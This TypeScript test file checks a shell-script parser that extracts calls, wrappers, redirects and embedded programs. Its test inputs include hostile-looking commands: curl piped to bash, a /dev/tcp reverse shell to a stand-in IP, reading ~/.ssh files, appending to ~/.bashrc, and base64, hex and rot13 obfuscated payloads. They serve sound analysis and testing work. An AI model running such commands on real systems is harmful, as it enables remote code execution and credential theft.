import { describe, expect, it } from 'vitest';
import { readShell } from '../../../src/code/shell/read.ts';
import { showCalls, showEmbedded } from '../show.ts';

const CALLS: readonly (readonly [string, readonly string[]])[] = [
  ['curl -s http://example.com | bash', ["1 curl('-s', 'http://example.com')", '1 bash() |0']],
  ['bash <(curl x)', ["1 curl('x')", '1 bash(#0)']],
  ['eval "$(curl x)"', ["1 curl('x')", '1 eval(#0)']],
  ['eval `curl x`', ["1 curl('x')", '1 eval(#0)']],
  ['sudo -u root nohup sh -s', ["1 sh('-s', wrapper='sudo nohup')"]],
  ['env A=b cmd', ["1 cmd(wrapper='env', env.A='b')"]],
  ['A=b cmd', ["1 cmd(env.A='b')"]],
  ['find . | xargs -I{} rm {}', ["1 find('.')", "1 rm('{}', wrapper='xargs') |0"]],
  ['git -C x bisect run sh -c id', ["1 sh('-c', 'id', wrapper='git')"]],
  ['git submodule foreach --recursive git pull', ["1 git('pull', wrapper='git')"]],
  ['git submodule update --init', ["1 git('submodule', 'update', '--init')"]],
  ['e"v"a\\l id', ["1 eval('id') {concat}"]],
  ["$'\\x69\\x64'", ['1 id() {concat}']],
  ['X=curl; $X http://example.com', ["1 assign('X', 'curl')", "1 curl('http://example.com') {alias}"]],
  ['{curl,-s,x}', ["1 curl('-s', 'x')"]],
  ['curl${IFS}x', ["1 curl('x') {alias}"]],
  ['cmd || true', ['1 cmd() silenced', '1 true()']],
  [
    'echo x >> ~/.bashrc 2>/dev/null',
    ["1 echo('x')", "1 redirect('~/.bashrc', operator='>>', input='x') |0"],
  ],
  [
    '{ echo a; date; echo b; } > f',
    [
      "1 echo('a')",
      '1 date()',
      "1 echo('b')",
      "1 redirect('f', operator='>', input=parts['a', '\n', ?, '\n', 'b']) |2",
    ],
  ],
  [
    'sh -i >& /dev/tcp/192.0.2.1/9 0>&1',
    ["1 sh('-i')", "1 redirect('/dev/tcp/192.0.2.1/9', operator='>&') |0"],
  ],
  ['/usr/bin/curl $HOME/.ssh/$f', ["1 curl(parts['~', '/.ssh/', @env.f])"]],
  ['sh < a > b', ["1 redirect('a', operator='<')", '1 sh() |0', "1 redirect('b', operator='>') |1"]],
  ['exec 5<>a; sh <&5', ['1 exec()', "1 redirect('a', operator='<>') |0", '1 sh() |1']],
  ['read -u 3 x 3<a; $x', ["1 redirect('a', operator='<')", "1 read('-u', '3', 'x')", '1 $() on #0']],
  [
    'find a -exec sudo b {} \\; -execdir c {} + -print',
    [
      "1 find('a', '-exec', 'sudo', 'b', '{}', ';', '-execdir', 'c', '{}', '+', '-print')",
      "1 b('{}', wrapper='find sudo') |0",
      "1 c('{}', wrapper='find') |0",
    ],
  ],
  ['f() { wget "$1"; }\nf x', ['1 wget(?)', "2 local.f('x')", "1 wget('x')"]],
  [
    'f() { local u=$1; shift; wget "$u" -O "$1"; }\nf x y',
    [
      "1 local(parts['u=', ?])",
      '1 shift()',
      "1 wget(?, '-O', ?)",
      "2 local.f('x', 'y')",
      "1 local('u=x')",
      '1 shift()',
      "1 wget('x', '-O', 'y')",
    ],
  ],
  [
    'm() { f x; }\nf() { g $@; }\nm "$@"',
    ["1 f('x')", '2 g(?)', '3 local.m(?)', "1 local.f('x')", "2 g('x')"],
  ],
  ['f() { f $1; }\nf x', ['1 local.f(?)', "2 local.f('x')", "1 local.f('x')"]],
  ['f() { ls; }\nf', ['1 ls()', '2 local.f()']],
  [
    'a | $SHELL\nb | "${BASH}"\necho $SHELL',
    ['1 a()', '1 sh() |0', '2 b()', '2 sh() |2', '3 echo(@env.SHELL)'],
  ],
  ['if a; then b; fi\nfor i in 1 2; do c $i; done', ['1 a()', '1 b()', "2 c(any['1', '2'])"]],
];

const EMBEDDED: readonly (readonly [string, string])[] = [
  ['python3 -c "import os"', 'python: import os'],
  ['node -e "f()"', 'javascript: f()'],
  ["sh -c 'id'", 'shell: id'],
  ['bash <<EOF\nid\nEOF', 'shell: id\n'],
  ["python - <<'EOF'\npass\nEOF", 'python: pass\n'],
  ['bash <<< id', 'shell: id'],
  ['echo aWQ= | base64 -d | sh', 'shell: id <base64>'],
  ['echo 6964 | xxd -r -p | sh', 'shell: id <hex>'],
  ['eval $(echo aWQ= | base64 --decode)', 'shell: id <base64>'],
  ["echo vq | tr 'a-z' 'n-za-m' | bash", 'shell: id <rot13>'],
  ['trap "id" EXIT', 'shell: id'],
  ['git submodule foreach "id; id"', 'shell: id; id'],
  ['watch "id $x | id"', 'shell: id $_ | id'],
];

describe('readShell', () => {
  it.each(CALLS)('reads %j', (script, expected) => {
    expect(showCalls(readShell(script))).toEqual(expected);
  });

  it.each(EMBEDDED)('finds the program in %j', (script, expected) => {
    expect(showEmbedded(readShell(script))).toContain(expected);
  });

  it('keeps functions and whether the script calls them', () => {
    const { scopes } = readShell('f() { g; }\ng() { id; }\nh() { id; }\nf\n');
    expect(scopes.map(({ name, runs }) => [name, runs === true])).toEqual([
      ['', false],
      ['f', true],
      ['g', true],
      ['h', false],
    ]);
  });

  it('says so where a script calls its functions too often for all of them to be followed', () => {
    const called = (times: number) => readShell(`f() { wget "$1"; }\n${'f x\n'.repeat(times)}`);
    expect(called(2000).completeness).toBe('complete');
    expect(called(2001)).toMatchObject({
      completeness: 'partial',
      reason: 'more than 2000 calls of its functions',
    });
  });

  it('reads Windows line ends and still gives calls around a break', () => {
    expect(showCalls(readShell('a\r\nb x\r\n'))).toEqual(['1 a()', "2 b('x')"]);
    const calls = showCalls(readShell('first a\nif then )\nlast b\n'));
    expect(calls).toContain("1 first('a')");
    expect(calls.join()).toContain('last');
  });
});
